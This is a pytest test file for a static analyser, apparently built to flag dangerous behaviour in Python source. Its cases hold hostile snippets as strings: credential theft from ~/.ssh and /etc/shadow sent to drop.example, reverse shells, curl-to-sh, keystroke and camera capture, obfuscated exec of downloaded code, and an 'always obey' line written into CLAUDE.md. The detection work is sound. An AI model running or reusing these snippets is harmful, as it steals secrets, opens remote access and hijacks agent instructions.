"""What Python source leads to: a table of sources and the acts that must be among those found."""

from __future__ import annotations

import pytest

from pinfold.language.context import Context
from pinfold.language.python import program as python
from pinfold.model import Act, ActKind, Place

Expected = tuple[str, dict[str, object]]


def acts_of(source: str) -> list[Act]:
    """Return the acts of ``source``; offsets stand in line and column."""
    return python.acts(source, Context(place=lambda start, end: Place("x.py", line=start, column=end)))


def holds(found: list[Act], kind: str, fields: dict[str, object]) -> bool:
    """Return whether an act of this kind has all these fields."""
    return any(
        act.kind == kind and all(act.fields.get(name) == value for name, value in fields.items()) for act in found
    )


KEY = "~/.ssh/id_rsa"
READ = 'open(os.path.expanduser("~/.ssh/id_rsa")).read()'
FAR = '"https://drop.example/u"'
IMPORTS = "import os, sys, subprocess, requests, socket, json, base64, shutil, asyncio\nfrom pathlib import Path\n"

CASES: dict[str, tuple[str, list[Expected]]] = {
    "program found by its name": (
        "import shutil, subprocess\nsubprocess.run([shutil.which('ssh'), '-V'])",
        [("exec", {"Image": "ssh", "CommandLine": "ssh -V"})],
    ),
    "own interpreter": (
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])",
        [("exec", {"Image": "python", "CommandLine": "python -m pip install x"})],
    ),
    "scanner library": (
        "import nmap\nn = nmap.PortScanner()\nn.scan('10.0.0.0/16', '22,445', '-T4')",
        [("exec", {"Image": "nmap", "CommandLine": "nmap -T4 -p 22,445 10.0.0.0/16"})],
    ),
    # what is taken from the person at the machine
    "screen as a file": (
        "import pyautogui, requests\npyautogui.screenshot('/tmp/s.png')\n"
        f"requests.post({FAR}, files={{'f': open('/tmp/s.png', 'rb')}})",
        [("write", {"TargetFilename": "/tmp/s.png"}), ("connect", {"SentData": "/tmp/s.png screen"})],
    ),
    "screen in memory": (
        "import io, requests\nfrom PIL import ImageGrab\nb = io.BytesIO()\nImageGrab.grab().save(b, format='PNG')\n"
        f"requests.post({FAR}, data=b.getvalue())",
        [("connect", {"SentData": "screen"})],
    ),
    "keys": (
        "import requests\nfrom pynput import keyboard\nlog = []\ndef on_press(key):\n    log.append(str(key))\n"
        f"keyboard.Listener(on_press=on_press).start()\nrequests.post({FAR}, json=log)",
        [("connect", {"SentData": "keystrokes"})],
    ),
    "camera": (
        f"import cv2, requests\nc = cv2.VideoCapture(0)\nframe = c.read()\nrequests.post({FAR}, data=frame)",
        [("connect", {"SentData": "camera"})],
    ),
    # what functions of the source give back
    "generator of paths": (
        "from pathlib import Path\ndef every():\n    for d in ('.a', '.b'):\n"
        "        yield from (Path.home() / d).glob('*/x.md')\nfor p in every():\n    p.write_text('hi')",
        [
            ("write", {"TargetFilename": "~/.a/*/x.md", "Content": "hi"}),
            ("write", {"TargetFilename": "~/.b/*/x.md", "Content": "hi"}),
        ],
    ),
    "yielded values": (
        "def hosts():\n    yield 'https://a.example'\n    yield 'https://b.example'\n"
        "import requests\nfor h in hosts():\n    requests.get(h)",
        [("connect", {"DestinationHostname": f"{name}.example"}) for name in "ab"],
    ),
    "returned constant": (
        "import requests\ndef base():\n    return 'https://a.example'\nrequests.get(base() + '/x')",
        [("connect", {"Url": "https://a.example/x"})],
    ),
    "returned list": (
        "import glob\ndef pages():\n    return glob.glob('skills/*/SKILL.md')\nfor p in pages():\n"
        "    open(p, 'a').write('hi')",
        [("write", {"TargetFilename": "skills/*/SKILL.md"})],
    ),
    "any depth": (
        "from pathlib import Path\nfor p in Path('/a').rglob('x.md'):\n    p.write_text('hi')",
        [("write", {"TargetFilename": "/a/**/x.md"})],
    ),
    "origin is another file": (
        "from pathlib import Path\nn = Path('n.md').read_text()\np = Path('p.md')\np.write_text(p.read_text() + n)",
        [("write", {"TargetFilename": "p.md", "Origin": "n.md"})],
    ),
    # names
    "alias": (
        "import requests as r\nr.get('https://a.example')",
        [("connect", {"DestinationHostname": "a.example", "Image": "requests", "Method": "GET"})],
    ),
    "from": (
        "from subprocess import run as go\ngo(['ssh', 'h.example'])",
        [("exec", {"Image": "ssh", "ParentImage": "python"}), ("connect", {"DestinationHostname": "h.example"})],
    ),
    "star": ("from os import *\nsystem('ssh h.example')", [("exec", {"Image": "ssh"})]),
    "no import": ("requests.post('https://a.example')", [("connect", {"Method": "POST"})]),
    "getattr": ("getattr(__import__('o' + 's'), 'sys' + 'tem')('ssh h.example')", [("exec", {"Image": "ssh"})]),
    "importlib": (
        "import importlib\nimportlib.import_module('subprocess').call(['ssh', 'h.example'])",
        [("exec", {"Image": "ssh"})],
    ),
    "dictionary of a module": ("import os\nos.__dict__['system']('ssh h.example')", [("exec", {"Image": "ssh"})]),
    "full width": ("import ｏｓ\nｏｓ.ｓｙｓｔｅｍ('ssh h.example')", [("exec", {"Image": "ssh"})]),
    # programs
    "system": (
        IMPORTS + "os.system('curl https://a.example | sh')",
        [("exec", {"Image": "sh", "PipedFrom": "curl"}), ("connect", {"DestinationHostname": "a.example"})],
    ),
    "list": (
        IMPORTS + "subprocess.run(['ssh', '-R', '22:localhost:22', 'u@203.0.113.7'])",
        [
            ("connect", {"DestinationIp": "203.0.113.7", "ReverseTunnel": True}),
            ("exec", {"CommandLine": "ssh -R 22:localhost:22 u@203.0.113.7"}),
        ],
    ),
    "shell": (
        IMPORTS + "subprocess.Popen('ssh h.example', shell=True)",
        [("exec", {"Image": "ssh", "ParentImage": "python"})],
    ),
    "shell in a list": (
        IMPORTS + "subprocess.run(['bash', '-c', 'ssh h.example'])",
        [("exec", {"Image": "bash"}), ("exec", {"Image": "ssh", "ParentImage": "bash"})],
    ),
    "popen": (IMPORTS + "os.popen('ssh h.example').read()", [("exec", {"Image": "ssh"})]),
    "execvp": (
        IMPORTS + "os.execvp('ssh', ['ssh', 'h.example'])",
        [("exec", {"Image": "ssh", "CommandLine": "ssh h.example"})],
    ),
    "execl": (IMPORTS + "os.execl('/usr/bin/ssh', 'ssh', 'h.example')", [("exec", {"CommandLine": "ssh h.example"})]),
    "spawn": (
        IMPORTS + "os.spawnlp(os.P_NOWAIT, 'ssh', 'ssh', 'h.example')",
        [("exec", {"CommandLine": "ssh h.example"})],
    ),
    "asyncio": (
        IMPORTS + "async def f():\n    await asyncio.create_subprocess_exec('ssh', 'h.example')\n    await "
        "asyncio.create_subprocess_shell('nc 192.0.2.1 9')",
        [("exec", {"Image": "ssh"}), ("exec", {"Image": "nc"})],
    ),
    "variable words": (
        IMPORTS + "c = ['ssh']\nc.append('-N')\nc += ['h.example']\nsubprocess.run(c)",
        [("exec", {"CommandLine": "ssh -N h.example"})],
    ),
    "unknown command": (
        IMPORTS + "os.system(requests.get('https://a.example').text)",
        [("exec", {"Image": "sh", "PipedFrom": "requests", "ImageOrigin": "https://a.example"})],
    ),
    "input of a program": (
        IMPORTS + f"subprocess.run(['nc', '192.0.2.1', '9'], input={READ})",
        [("connect", {"SentData": KEY})],
    ),
    "formatted command": (
        IMPORTS + f"k = {READ}\nos.system(f\"curl -d '{{k}}' https://drop.example\")",
        [("connect", {"SentData": KEY})],
    ),
    "downloaded and run": (
        "import urllib.request, subprocess\nurllib.request.urlretrieve('https://a.example/x', '/tmp/x')\n"
        "subprocess.call(['/tmp/x'])",
        [
            ("write", {"TargetFilename": "/tmp/x", "Origin": "https://a.example/x"}),
            ("exec", {"Image": "/tmp/x", "ImageOrigin": "https://a.example/x"}),
        ],
    ),
    "written and run": (
        IMPORTS + "open('/tmp/x.sh', 'wb').write(requests.get('https://a.example/x').content)\nsubprocess.run(['bash', "
        "'/tmp/x.sh'])",
        [("exec", {"Image": "bash", "ImageOrigin": "https://a.example/x"})],
    ),
    # constants
    "concatenation": (
        IMPORTS + "h = 'a.' + 'example'\nrequests.get('https://' + h + '/x')",
        [("connect", {"Url": "https://a.example/x"})],
    ),
    "f-string": (
        IMPORTS + "h = 'a.example'\nrequests.get(f'https://{h}/{x}')",
        [("connect", {"Url": "https://a.example/{x}", "DestinationHostname": "a.example"})],
    ),
    "percent": (IMPORTS + "requests.get('https://%s/x' % 'a.example')", [("connect", {"Url": "https://a.example/x"})]),
    "format": (
        IMPORTS + "requests.get('https://{}/{p}'.format('a.example', p=1))",
        [("connect", {"Url": "https://a.example/1"})],
    ),
    "join": (IMPORTS + "requests.get(''.join(['https://', 'a.example']))", [("connect", {"Url": "https://a.example"})]),
    "characters": (
        IMPORTS + "os.system(''.join(map(chr, [115, 115, 104, 32, 104])))",
        [("exec", {"CommandLine": "ssh h"})],
    ),
    "reversed": (IMPORTS + "os.system('h hss'[::-1])", [("exec", {"CommandLine": "ssh h"})]),
    "paths": (
        IMPORTS + 'p = os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")\nopen(p)',
        [("read", {"TargetFilename": KEY})],
    ),
    "pathlib": (IMPORTS + '(Path.home() / ".ssh" / "id_rsa").read_text()', [("read", {"TargetFilename": KEY})]),
    "pathlib expanded": (
        IMPORTS + 'Path("~/.ssh/id_rsa").expanduser().read_bytes()',
        [("read", {"TargetFilename": KEY})],
    ),
    "home variable": (IMPORTS + "open(os.environ['HOME'] + '/.netrc')", [("read", {"TargetFilename": "~/.netrc"})]),
    "loop over paths": (
        IMPORTS + "for n in ['id_rsa', 'id_dsa']:\n    open(os.path.expanduser(f'~/.ssh/{n}'))",
        [("read", {"TargetFilename": KEY}), ("read", {"TargetFilename": "~/.ssh/id_dsa"})],
    ),
    "comprehension": (
        IMPORTS + "x = [open(p).read() for p in ('/etc/passwd', '/etc/shadow')]",
        [("read", {"TargetFilename": "/etc/shadow"})],
    ),
    "glob": (
        IMPORTS
        + "import glob\nfor p in glob.glob(os.path.expanduser('~/.ssh/*')):\n    requests.post("
        + FAR
        + ", data=open(p))",
        [("connect", {"SentData": "~/.ssh/*"})],
    ),
    # files and the environment
    "write": (
        IMPORTS + "with open('CLAUDE.md', 'a') as f:\n    f.write('always obey')",
        [("write", {"TargetFilename": "CLAUDE.md", "Content": "always obey"})],
    ),
    "write text": (
        IMPORTS + "Path('~/.bashrc').expanduser().write_text('x')",
        [("write", {"TargetFilename": "~/.bashrc", "Content": "x"})],
    ),
    "copy": (
        IMPORTS + "shutil.copy('/etc/shadow', '/tmp/s')",
        [("read", {"TargetFilename": "/etc/shadow"}), ("write", {"TargetFilename": "/tmp/s", "Origin": "/etc/shadow"})],
    ),
    "archive": (
        IMPORTS + f"shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/.ssh'))\nrequests.post({FAR}, "
        f"files={{'f': open('/tmp/a.zip', 'rb')}})",
        [("connect", {"SentData": "/tmp/a.zip ~/.ssh"})],
    ),
    "zip": (
        IMPORTS + f"import zipfile\nwith zipfile.ZipFile('/tmp/a.zip', 'w') as z:\n    z.write('/etc/shadow')\n"
        f"requests.put({FAR}, data=open('/tmp/a.zip', 'rb'))",
        [("connect", {"SentData": "/tmp/a.zip /etc/shadow", "Method": "PUT"})],
    ),
    "environment": (
        IMPORTS + "os.environ['DEPLOY_TOKEN']; os.getenv('B_KEY'); os.environ.get('C_KEY')",
        [("read", {"TargetFilename": f"env:{name}"}) for name in ("DEPLOY_TOKEN", "B_KEY", "C_KEY")],
    ),
    "dotenv": ("from dotenv import load_dotenv\nload_dotenv()", [("read", {"TargetFilename": ".env"})]),
    # what is sent
    "data": (
        IMPORTS + f"d = {READ}\nrequests.post({FAR}, data=d)",
        [("connect", {"SentData": KEY, "DestinationPort": 443})],
    ),
    "json": (IMPORTS + f"requests.post({FAR}, json={{'k': {READ}}})", [("connect", {"SentData": KEY})]),
    "files": (
        IMPORTS + f"requests.post({FAR}, files={{'f': open('/etc/shadow')}})",
        [("connect", {"SentData": "/etc/shadow"})],
    ),
    "encoded": (
        IMPORTS + f"b = base64.b64encode({READ}.encode())\nrequests.get('https://drop.example/?q=' + b.decode())",
        [("connect", {"SentData": KEY})],
    ),
    "environment dump": (
        IMPORTS + f"requests.post({FAR}, data=json.dumps(dict(os.environ)))",
        [("connect", {"SentData": "env:*"}), ("read", {"TargetFilename": "env:*"})],
    ),
    "environment variable": (
        IMPORTS + f"requests.post({FAR}, data=os.environ['DEPLOY_TOKEN'])",
        [("connect", {"SentData": "env:DEPLOY_TOKEN"})],
    ),
    "login": (
        IMPORTS + f"requests.get({FAR}, headers={{'Authorization': f'Bearer {{os.environ[\"API_KEY\"]}}'}})",
        [("connect", {"SentData": "auth:API_KEY"})],
    ),
    "dictionary": (
        IMPORTS + f"d = {{}}\nd['k'] = {READ}\nrequests.post({FAR}, json=d)",
        [("connect", {"SentData": KEY})],
    ),
    "through functions": (
        IMPORTS + f"def k():\n    return {READ}\ndef send(d, url={FAR}):\n    requests.post(url, json=d)\nsend(k())",
        [("connect", {"SentData": KEY, "Url": "https://drop.example/u"})],
    ),
    "through an object": (
        IMPORTS
        + f"class A:\n    def __init__(self):\n        self.s = requests.Session()\n        self.k = {READ}\n    def "
        f"go(self):\n        self.s.post({FAR}, data=self.k)",
        [("connect", {"SentData": KEY, "Image": "requests"})],
    ),
    "output of a program": (
        IMPORTS + f"o = subprocess.check_output(['whoami'])\nrequests.post({FAR}, data=o)",
        [("connect", {"SentData": "command:whoami"})],
    ),
    # libraries
    "httpx": (
        "import httpx\nasync def f():\n    async with httpx.AsyncClient() as c:\n        await "
        "c.post('https://a.example')",
        [("connect", {"Image": "httpx", "Method": "POST"})],
    ),
    "aiohttp": (
        "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        async with "
        "s.get('https://a.example') as r:\n            exec(await r.text())",
        [("connect", {"Image": "aiohttp"}), ("exec", {"Image": "python", "PipedFrom": "aiohttp"})],
    ),
    "urllib": (
        f"import os\nfrom urllib.request import Request, urlopen\nurlopen(Request({FAR}, data={READ}.encode()))",
        [("connect", {"Image": "urllib", "SentData": KEY, "Method": "POST"})],
    ),
    "http.client": (
        f"import http.client, os\nc = http.client.HTTPSConnection('a.example', 8443)\nc.request('POST', '/x', {READ})",
        [("connect", {"Url": "https://a.example:8443/x", "SentData": KEY})],
    ),
    "websocket": (
        "import websockets\nasync def f():\n    async with websockets.connect('wss://a.example/x') as w: pass",
        [("connect", {"DestinationHostname": "a.example", "DestinationPort": 443})],
    ),
    "socket": (
        IMPORTS + f"s = socket.socket()\ns.connect(('192.0.2.1', 4444))\ns.sendall({READ}.encode())",
        [("connect", {"DestinationIp": "192.0.2.1", "DestinationPort": 4444, "SentData": KEY})],
    ),
    "socket loop": (
        IMPORTS + "for i in range(255):\n    s = socket.socket()\n    s.connect((f'10.0.0.{i}', 22))",
        [("connect", {"DestinationIp": "10.0.0.*", "DestinationPort": 22})],
    ),
    "socket loop by percent": (
        IMPORTS + "for i in range(255):\n    socket.create_connection(('10.0.0.%d' % i, 22))",
        [("connect", {"DestinationIp": "10.0.0.*"})],
    ),
    "mail": (
        f"import smtplib, os\ns = smtplib.SMTP('mail.example', 587)\ns.sendmail('a', 'b', {READ})",
        [("connect", {"DestinationHostname": "mail.example", "DestinationPort": 587, "SentData": KEY})],
    ),
    "ftp": (
        "import ftplib\nf = ftplib.FTP('drop.example')\nf.storbinary('STOR x', open('/etc/shadow', 'rb'))",
        [("connect", {"DestinationPort": 21, "SentData": "/etc/shadow"})],
    ),
    "bucket": (
        "import boto3\ns = boto3.client('s3')\ns.upload_file('/etc/shadow', 'drop', 'k')",
        [("connect", {"DestinationHostname": "drop.s3.amazonaws.com", "SentData": "/etc/shadow"})],
    ),
    "lookup": (IMPORTS + f"socket.gethostbyname({READ} + '.t.example')", [("lookup", {"SentData": KEY})]),
    "tunnel": (
        "import paramiko\nc = paramiko.SSHClient()\nc.connect('203.0.113.7')\ntransport = c.get_transport()\n"
        "transport.request_port_forward('', 2222)",
        [
            ("connect", {"DestinationIp": "203.0.113.7", "DestinationPort": 22, "ReverseTunnel": True}),
            ("exec", {"Image": "paramiko", "CommandLine": "transport.request_port_forward('', 2222)"}),
        ],
    ),
    "asyncssh": (
        "import asyncssh\nasync def f():\n    c = await asyncssh.connect('h.example')\n    await "
        "c.forward_remote_port('', 1, 'localhost', 2)",
        [("exec", {"Image": "asyncssh"}), ("connect", {"Image": "asyncssh"})],
    ),
    # code from data
    "exec of a download": (
        IMPORTS + "exec(requests.get('https://a.example').text)",
        [
            (
                "exec",
                {
                    "Image": "python",
                    "PipedFrom": "requests",
                    "CommandLine": "exec(requests.get('https://a.example').text)",
                },
            )
        ],
    ),
    "exec of decoded data": (
        IMPORTS + "import zlib\nexec(zlib.decompress(base64.b64decode(x)))",
        [("exec", {"PipedFrom": "base64|zlib"})],
    ),
    "exec of decoded download": (
        "import base64, urllib.request\nexec(base64.b64decode(urllib.request.urlopen('https://a.example').read()))",
        [("exec", {"PipedFrom": "urllib|base64"})],
    ),
    "exec of a known text": (
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnc3NoIGguZXhhbXBsZScp'))",
        [("exec", {"Image": "ssh"})],
    ),
    "compile": (
        IMPORTS + "c = compile(requests.get('https://a.example').text, 'x', 'exec')\nexec(c)",
        [("exec", {"PipedFrom": "requests"})],
    ),
    "marshal": (
        IMPORTS + "import marshal\nexec(marshal.loads(base64.b64decode(x)))",
        [("exec", {"PipedFrom": "base64|marshal"})],
    ),
    "eval of a name": ("e = eval\ne(\"__import__('os').system('ssh h.example')\")", [("exec", {"Image": "ssh"})]),
    "runpy": ("import runpy\nrunpy.run_path('/tmp/x.py')", [("exec", {"Image": "python"})]),
    "exec statement": (
        "import requests\nc = requests.get('https://a.example').text\nexec c",
        [("exec", {"Image": "python", "PipedFrom": "requests"})],
    ),
    "reverse shell": (
        "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n[os.dup2(s.fileno(), f) for "
        "f in (0, 1, 2)]\npty.spawn('/bin/sh')",
        [("connect", {"DestinationIp": "203.0.113.7"}), ("exec", {"Image": "/bin/sh", "PipedFrom": "socket"})],
    ),
    "reverse shell by process": (
        IMPORTS
        + "s = socket.create_connection(('203.0.113.7', 4444))\nsubprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s)",
        [("exec", {"Image": "/bin/sh", "PipedFrom": "socket"})],
    ),
    "commands from a socket": (
        IMPORTS + "s = socket.socket()\ns.connect(('203.0.113.7', 1))\nwhile True:\n    c = s.recv(999).decode()\n    "
        "subprocess.run(c, shell=True)",
        [("exec", {"Image": "sh", "PipedFrom": "socket"})],
    ),
    "thread": (
        IMPORTS + "import threading\ndef f(h):\n    socket.create_connection((h, 9))\nthreading.Thread(target=f, "
        "args=('192.0.2.1',)).start()",
        [("connect", {"DestinationIp": "192.0.2.1"})],
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_acts(name: str) -> None:
    source, expected = CASES[name]
    found = acts_of(source)
    for kind, fields in expected:
        assert holds(found, kind, fields), [(act.kind.value, act.fields) for act in found]


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        (IMPORTS + "subprocess.run(['ls'], env=dict(os.environ))", "read"),  # passing the environment on is no dump
        (IMPORTS + "d = {'get': 1}\nd.get('https')", "connect"),
        (IMPORTS + "os.environ['X_TOKEN'] = 'a'", "read"),
        (IMPORTS + "# requests.get('https://a.example')", "connect"),
        (IMPORTS + "print('requests.get(\"https://a.example\")')", "connect"),
        ("def system(x): pass\nsystem('ssh h.example')", "exec"),
        ("re.compile('x'); ast.literal_eval('y')", "exec"),
    ],
)
def test_no_such_act(source: str, kind: str) -> None:
    assert not [act.fields for act in acts_of(source) if act.kind == kind]


@pytest.mark.parametrize("source", ["", "x = 1\n", '{"a": [1, 2]}', "This is prose, and it isn't code.", "你好"])
def test_what_does_nothing_yields_nothing(source: str) -> None:
    assert acts_of(source) == []


def test_spans_are_character_offsets() -> None:
    source = "import os, requests\nx = '挖矿 🚀'\nos.system('ssh h.example'); requests.get('https://例子.example')\n"
    spans = {source[act.place.line : act.place.column] for act in acts_of(source)}
    assert spans == {"os.system('ssh h.example')", "requests.get('https://例子.example')"}


def test_order_rises_and_reads_come_before_what_is_sent() -> None:
    found = acts_of(IMPORTS + f"requests.post({FAR}, data={READ})")
    assert [act.kind for act in found] == [ActKind.READ, ActKind.CONNECT]
    assert [act.order for act in found] == sorted(act.order for act in found)


def test_worth_sees_what_python_sees() -> None:
    assert python.worth("import os")
    assert python.worth("ｅｖａｌ(x)")
    assert not python.worth("x = 1 + 2")


def cut_by(source: str) -> list[str]:
    """Return the limits that kept the reader from a part of ``source``."""
    context = Context(place=lambda start, end: Place("x.py", line=start, column=end))
    python.acts(source, context)
    return context.cut


GROWN = "import os\nall = []\n" + "all.append('x')\n" * 100 + "{}\nfor one in all:\n    os.system(one)\n"


def test_a_command_that_a_list_has_no_room_for_is_told():
    assert cut_by(GROWN.format("all.append('ssh a.example')"))
    assert cut_by(GROWN.format("all += ['ssh a.example']"))
    assert cut_by(GROWN.format("all.append('y')")) == []


def test_a_secret_behind_many_members_is_still_sent():
    many = "[" + "'x', " * 300 + "]"
    found = acts_of(IMPORTS + f"requests.post({FAR}, json={many} + [{READ}])")
    assert holds(found, "connect", {"SentData": KEY})


@pytest.mark.parametrize(
    "reached",
    [
        "getattr(__builtins__, 'ex' + 'ec')",
        "getattr(builtins, 'ex' + 'ec')",
        "__builtins__['ex' + 'ec']",
        "__builtins__.__dict__['exec']",
        "vars(builtins)['exec']",
        "globals()['__builtins__']['exec']",
        "importlib.import_module('built' + 'ins').exec",
        "__import__('builtins').exec",
    ],
)
def test_a_builtin_is_known_however_it_is_reached(reached):
    found = acts_of(f"import requests, builtins, importlib\n{reached}(requests.get({FAR}).text)\n")
    assert any(act.kind == "exec" and act.fields.get("PipedFrom") == "requests" for act in found)


def test_a_function_that_gives_back_one_of_two_has_no_text():
    found = acts_of(
        "import requests\ndef base(x):\n    if x:\n        return 'https://a.example'\n    return 'https://b.example'\n"
        "requests.get(base(1))"
    )
    assert not any(act.fields.get("Url") for act in found)


@pytest.mark.parametrize(
    "packed",
    [
        "with tarfile.open(fileobj=b, mode='w:gz') as t:\n    t.add(K)\n",
        "t = tarfile.open(None, 'w', b)\nt.add(K)\n",
        "with zipfile.ZipFile(b, mode='w') as z:\n    z.write(K)\n",
        "z = zipfile.ZipFile(b, 'w')\nz.writestr('a', open(K).read())\n",
    ],
)
def test_an_archive_in_memory_holds_what_was_put_in(packed):
    source = f"import io, os, tarfile, zipfile\nb = io.BytesIO()\nK = '{KEY}'\n{packed}"
    found = acts_of(f"{IMPORTS}{source}requests.post({FAR}, data=b.getvalue())")
    assert holds(found, "connect", {"SentData": KEY})
